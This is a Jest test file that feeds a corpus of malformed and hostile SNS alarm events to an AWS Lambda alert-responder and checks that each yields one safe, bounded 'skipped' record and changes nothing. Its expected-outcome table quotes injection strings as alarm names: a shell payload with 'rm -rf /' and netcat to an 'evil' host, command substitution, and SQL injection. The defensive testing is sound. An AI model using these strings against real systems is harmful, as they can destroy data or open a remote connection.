/**
 * Part 7: every malformed or hostile invocation in test/events/bad (and three generated ones)
 * goes through the real lambda-family handler with every AWS client mocked. Each must yield
 * exactly one clear, bounded, safe record per notification and change nothing.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Context } from 'aws-lambda';
import { encodeTargets } from '../../../lib/catalogue';
import type { Decision, ReasonCode } from '../../../lambdas/core/record';
import type { ResponderSettings } from '../../../lambdas/runtime/settings';
import { answerWith, mutatingCommandsSent, resetAllClients, sentCommands } from '../../helpers/all-clients-mock';
import { alarmMessage, snsEvent } from '../../helpers/alarm-event';
import { ACCOUNT, settingsForAlarm } from '../../helpers/responder-settings';

const DIR = join(__dirname, '../../events/bad');
const ALARM = 'ar-rung-high-latency-rung-api-prod';
const LIMIT = 256 * 1024;
/** C0 and C1 controls, DEL, line separators and bidi overrides: never raw in a record. */
const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

interface Expected {
  readonly decision: Decision;
  readonly code: ReasonCode;
  readonly reason: RegExp;
}
const invalid = (reason: RegExp): Expected => ({ decision: 'skipped', code: 'invalid-input', reason });
const unknown = (reason: RegExp): Expected => ({ decision: 'skipped', code: 'unknown-alarm', reason });
const foreign = (reason: RegExp): Expected => ({ decision: 'skipped', code: 'foreign-alarm', reason });
const RESOLVED: Expected = { decision: 'skipped', code: 'resolved', reason: /alarm returned to OK/ };
const NOT_AN_EVENT = invalid(/^invalid input: event: expected an SNS event \{"Records": \[\.\.\.\]\} or a manual payload/);
const NOT_RECORDS = invalid(/^invalid input: Records: expected a non-empty array of SNS records/);
const CONTROL_IN_NAME = invalid(/^invalid input: Message\.AlarmName: expected an alarm name without control characters/);
const NOT_JSON = invalid(/^invalid input: Message: expected a CloudWatch alarm notification in JSON, not valid JSON, received .*\(Records\[0\], SNS MessageId/);
const NOT_OURS = unknown(/alarm name does not follow "ar-<system>-<kind>-<resource>"/);

/** Each file → the record(s) it must produce, in order. */
const EXPECTED: Readonly<Record<string, Expected | readonly Expected[]>> = {
  'event-not-json.txt': NOT_AN_EVENT,
  'event-null.json': NOT_AN_EVENT,
  'event-number.json': NOT_AN_EVENT,
  'event-array.json': NOT_AN_EVENT,
  'event-empty-object.json': NOT_AN_EVENT,
  'event-json-string.json': NOT_AN_EVENT,
  'records-empty.json': NOT_RECORDS,
  'records-not-array.json': NOT_RECORDS,
  'records-null.json': NOT_RECORDS,
  'record-null.json': invalid(/Records\[0\]: expected an object, received null/),
  'record-sqs.json': invalid(/Records\[0\]\.EventSource: expected "aws:sns", received "aws:sqs"/),
  'record-without-sns.json': invalid(/Records\[0\]\.Sns: expected an object, received nothing/),
  'topic-arn-garbage.json': invalid(/Records\[0\]\.Sns\.TopicArn: expected an SNS topic ARN, received "not-an-arn"/),
  'message-id-empty.json': invalid(/Records\[0\]\.Sns\.MessageId: expected the SNS message id, received ""/),
  'message-id-bidi-override.json': RESOLVED,
  'message-not-json.json': NOT_JSON,
  'message-empty-string.json': NOT_JSON,
  'message-truncated-json.json': NOT_JSON,
  'message-number.json': invalid(/Records\[0\]\.Sns\.Message: expected a string, received 42/),
  'message-json-array.json': invalid(/Message: expected a CloudWatch alarm notification \(a JSON object\), received \[1,2,3\]/),
  'message-json-null.json': invalid(/Message: expected a CloudWatch alarm notification \(a JSON object\), received null/),
  'alarm-name-missing.json': invalid(/Message\.AlarmName: expected a string, received nothing/),
  'alarm-name-number.json': invalid(/Message\.AlarmName: expected a string, received 42/),
  'alarm-name-empty.json': invalid(/Message\.AlarmName: expected an alarm name of 1 to 255 characters, received ""/),
  'new-state-fire.json': invalid(/Message\.NewStateValue: expected "ALARM" or "OK" or "INSUFFICIENT_DATA", received "FIRE"/),
  'new-state-lowercase.json': invalid(/Message\.NewStateValue: expected "ALARM" or "OK" or "INSUFFICIENT_DATA", received "alarm"/),
  'state-change-time-garbage.json': invalid(/Message\.StateChangeTime: expected a timestamp like 2015-06-03T17:43:27\.123\+0000/),
  'state-change-time-impossible.json': invalid(/Message\.StateChangeTime: expected a real date and time, received "2026-02-30/),
  'alarm-arn-of-sns.json': invalid(/Message\.AlarmArn: expected a CloudWatch alarm ARN, received "arn:aws:sns:/),
  'alarm-arn-name-mismatch.json': invalid(/Message\.AlarmArn: expected the ARN of alarm "ar-rung-high-latency-rung-api-prod"/),
  'account-id-mismatch.json': invalid(/Message\.AWSAccountId: expected 123456789012, the account in AlarmArn, received "999999999999"/),
  'trigger-missing.json': invalid(/Message\.Trigger: expected a Trigger \(metric alarm\) or an AlarmRule \(composite alarm\)/),
  'trigger-duplicate-dimension.json': invalid(/Message\.Trigger\.Dimensions\[1\]\.name: expected unique dimension names/),
  'trigger-period-negative.json': invalid(/Message\.Trigger\.Period: expected the period in seconds as a positive integer, received -300/),
  'math-metrics-empty.json': invalid(/Message\.Trigger\.Metrics: expected at least one metric/),
  'unknown-resource.json': unknown(/no configured resource "not-configured" in system "rung"/),
  'unknown-kind.json': NOT_OURS,
  'other-prefix.json': NOT_OURS,
  'other-system.json': unknown(/alarm is for system "hlekkr"; this responder serves "rung"/),
  'other-family.json': unknown(/no configured resource "n8n" in system "rung"/),
  'foreign-account.json': foreign(/alarm belongs to account 999999999999, this responder to 123456789012/),
  'foreign-region.json': foreign(/alarm is in region eu-west-1/),
  'lookalike-unicode-name.json': unknown(/no configured resource "rung-\u0430pi-prod"/),
  'ok-transition.json': RESOLVED,
  'insufficient-data-transition.json': { decision: 'skipped', code: 'ignored-state', reason: /alarm is INSUFFICIENT_DATA: only ALARM acts/ },
  'name-shell-metacharacters.json': unknown(/no configured resource "rung-api-prod; rm -rf \/ \| nc evil 1337 &"/),
  'name-command-substitution.json': unknown(/no configured resource "\$\(rm -rf \/\)`reboot`"/),
  'name-sql-injection.json': unknown(/no configured resource "x'; DROP TABLE alarms; --"/),
  'name-with-json.json': unknown(/no configured resource "\{"decision":"applied","reasonCode":"applied"\}"/),
  'name-ansi-escape.json': CONTROL_IN_NAME,
  'name-newline-forged-log.json': CONTROL_IN_NAME,
  'name-nul-byte.json': CONTROL_IN_NAME,
  'name-bidi-override.json': CONTROL_IN_NAME,
  'name-line-separator.json': CONTROL_IN_NAME,
  'name-10kb.json': invalid(/Message\.AlarmName: expected an alarm name of 1 to 255 characters, received "ar-rung-high-latency-A{150,}…"/),
  'reason-with-control-characters.json': RESOLVED,
  'prototype-pollution.json': unknown(/no configured resource "proto"/),
  'deeply-nested-extra-field.json': unknown(/no configured resource "deep"/),
  'composite-without-children.json': NOT_OURS,
  'composite-of-unknown-alarm.json': NOT_OURS,
  'composite-children-not-array.json': invalid(/Message\.TriggeringChildren: expected an array, received "all of them"/),
  'manual-unknown-field.json': invalid(/^invalid input: dryrun: unknown field, not accepted/),
  'manual-dry-run-yes.json': invalid(/^invalid input: dryRun: expected a boolean \(true or false\), received "yes"/),
  'manual-dry-run-string-false.json': invalid(/^invalid input: dryRun: expected a boolean \(true or false\), received "false"/),
  'manual-alarm-name-null.json': invalid(/^invalid input: alarmName: expected a string, received null/),
  'manual-undo-number.json': invalid(/^invalid input: undo: expected a string, received 42/),
  'manual-undo-and-alarm-name.json': invalid(/alarmName, undo: expected either alarmName \(respond\) or undo \(undo a record\), not both/),
  // Resolved by name before anything is read back: an unconfigured resource is refused without a call.
  'manual-unknown-alarm.json': unknown(/no configured resource "no-such-function" in system "rung"/),
  'manual-name-terminal-escape.json': invalid(/alarmName: expected an alarm name without control characters/),
  'batch-bad-and-ok.json': [NOT_JSON, RESOLVED],
};

/** Too big to commit: built here. Only the required fields, so the reason fills all the room SNS allows. */
function atSnsLimit(): Record<string, unknown> {
  const { AlarmName, AlarmArn, StateChangeTime } = alarmMessage({ name: ALARM });
  const base = { AlarmName, AlarmArn, StateChangeTime, NewStateValue: 'OK', OldStateValue: 'ALARM', Trigger: { MetricName: 'Duration', Namespace: 'AWS/Lambda' } };
  const room = LIMIT - Buffer.byteLength(JSON.stringify({ ...base, NewStateReason: '' }));
  return snsEvent([{ ...base, NewStateReason: 'r'.repeat(room) }]);
}
const GENERATED: Readonly<Record<string, { event: () => unknown; expected: Expected }>> = {
  'generated: Message over 256 KiB': {
    event: () => snsEvent([{ ...alarmMessage({ name: ALARM }), NewStateReason: 'x'.repeat(300 * 1024) }]),
    expected: invalid(/Message: too large: \d+ bytes, over the SNS limit of 262144/),
  },
  'generated: Message of exactly 256 KiB, NewStateReason filling it': { event: atSnsLimit, expected: RESOLVED },
  'generated: manual payload over 16 KiB': {
    event: () => ({ alarmName: ALARM, requestId: 'q'.repeat(17 * 1024) }),
    expected: invalid(/^invalid input: event: too large: \d+ bytes of JSON, over the limit of 16384/),
  },
};


function responderEnv(s: ResponderSettings): Record<string, string> {
  const env: Record<string, string> = {
    AR_CAPS: JSON.stringify(s.caps),
    AR_TARGETS: encodeTargets([...s.targets.values()], s.caps, new Map([...s.plannedKinds].map(([key, kinds]) => [key, [...kinds]]))),
    AR_GUARDRAILS: JSON.stringify(s.guardrails),
    AR_ALLOWED_REGIONS: s.allowedRegions.join(','),
    POWERTOOLS_DEV: 'true',
    POWERTOOLS_METRICS_NAMESPACE: 'AlertResponderTest',
  };
  // Every string setting is AR_<NAME IN SNAKE CASE> (remediationLogGroup → AR_REMEDIATION_LOG_GROUP).
  for (const [key, value] of Object.entries(s)) {
    if (typeof value === 'string') env[`AR_${key.replace(/[A-Z]/g, (c) => `_${c}`).toUpperCase()}`] = value;
  }
  return env;
}

const context: Context = {
  callbackWaitsForEmptyEventLoop: true,
  functionName: 'ar-rung-lambda-responder',
  functionVersion: '$LATEST',
  invokedFunctionArn: `arn:aws:lambda:us-east-1:${ACCOUNT}:function:ar-rung-lambda-responder`,
  memoryLimitInMB: '256',
  awsRequestId: 'bad-input-request',
  logGroupName: '/aws/lambda/ar-rung-lambda-responder',
  logStreamName: '2026/11/23/[$LATEST]0123',
  getRemainingTimeInMillis: () => 30_000,
  done: () => undefined,
  fail: () => undefined,
  succeed: () => undefined,
};

type Handler = (typeof import('../../../lambdas/responders/lambda'))['handler'];
let handler: Handler;
let powertools: typeof import('../../../lambdas/runtime/powertools');

beforeAll(async () => {
  Object.assign(process.env, responderEnv(settingsForAlarm(ALARM)));
  // Imported after the environment is set, in case a module reads it at load.
  handler = (await import('../../../lambdas/responders/lambda')).handler;
  powertools = await import('../../../lambdas/runtime/powertools');
});
beforeEach(() => {
  resetAllClients();
  // POWERTOOLS_DEV makes the logger and metrics write to the console, which is kept quiet here.
  for (const level of ['log', 'info', 'warn', 'error', 'debug'] as const) jest.spyOn(console, level).mockImplementation(() => undefined);
});
afterEach(() => jest.restoreAllMocks());

const fileCases = readdirSync(DIR).filter((f) => f !== 'README.md').sort();
const readEvent = (file: string): unknown => {
  const raw = readFileSync(join(DIR, file), 'utf8');
  return file.endsWith('.json') ? JSON.parse(raw) : raw;
};
const eventOf = (name: string): unknown => GENERATED[name]?.event() ?? readEvent(name);
const expectedOf = (name: string): readonly Expected[] => {
  const e = GENERATED[name]?.expected ?? EXPECTED[name] ?? [];
  return Array.isArray(e) ? e : [e as Expected];
};
const allCases = [...fileCases, ...Object.keys(GENERATED)];

/** The messages posted with PutLogEvents since the last reset. */
function postedRecords(): string[] {
  return sentCommands()
    .filter((c) => c.service === 'logs' && c.operation === 'PutLogEvents')
    .flatMap((c) => (c.input as { logEvents: { message: string }[] }).logEvents.map((e) => e.message));
}

function recordProblems(message: string): string[] {
  const problems: string[] = [];
  if (Buffer.byteLength(message, 'utf8') >= LIMIT) problems.push(`record is ${Buffer.byteLength(message, 'utf8')} bytes`);
  const raw = UNSAFE.exec(message);
  if (raw) problems.push(`raw U+${(raw[0].codePointAt(0) ?? 0).toString(16).padStart(4, '0')} in the record`);
  return problems;
}

describe('the bad input corpus', () => {
  it('has an expected outcome for every file, and a file for every expected outcome', () => {
    expect(fileCases).toEqual(Object.keys(EXPECTED).sort());
    expect(allCases.length).toBeGreaterThanOrEqual(40);
  });

  it.each(allCases)('%s: one clear record per notification, nothing changed', async (name) => {
    const event = eventOf(name);
    const error = jest.spyOn(powertools.logger, 'error');
    await expect(handler(event, context)).resolves.toBeDefined();
    const posted = postedRecords();
    const expected = expectedOf(name);
    expect(expected.length).toBeGreaterThan(0);
    expect(posted).toHaveLength(expected.length);
    posted.forEach((message, i) => {
      const record = JSON.parse(message) as { decision: string; reasonCode: string; reason: string };
      expect({ decision: record.decision, reasonCode: record.reasonCode }).toEqual({ decision: expected[i].decision, reasonCode: expected[i].code });
      expect(record.reason).toMatch(expected[i].reason);
      expect(record.reason.length).toBeLessThan(1000);
      expect(recordProblems(message)).toEqual([]);
    });
    expect(error).not.toHaveBeenCalled();
    expect(mutatingCommandsSent()).toEqual([]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

});

describe('the bad input corpus when the remediation log cannot be written', () => {
  it.each(allCases)('%s: every record goes to the function log instead, and is counted', async (name) => {
    answerWith((c) => {
      if (c.operation === 'PutLogEvents') throw Object.assign(new Error('not authorized to logs:PutLogEvents'), { name: 'AccessDeniedException' });
      return {};
    });
    const error = jest.spyOn(powertools.logger, 'error').mockImplementation(() => undefined);
    const counted = jest.spyOn(powertools.metrics, 'addMetric');
    await expect(handler(eventOf(name), context)).resolves.toBeDefined();
    const expected = expectedOf(name);
    const logged = error.mock.calls.map((args) => (args[1] as { resultRecord?: { reasonCode: string } } | undefined)?.resultRecord);
    expect(logged.map((r) => r?.reasonCode)).toEqual(expected.map((e) => e.code));
    expect(counted.mock.calls.filter(([metric]) => metric === 'RecordWriteFailures')).toHaveLength(expected.length);
    expect(mutatingCommandsSent()).toEqual([]);
  });
});
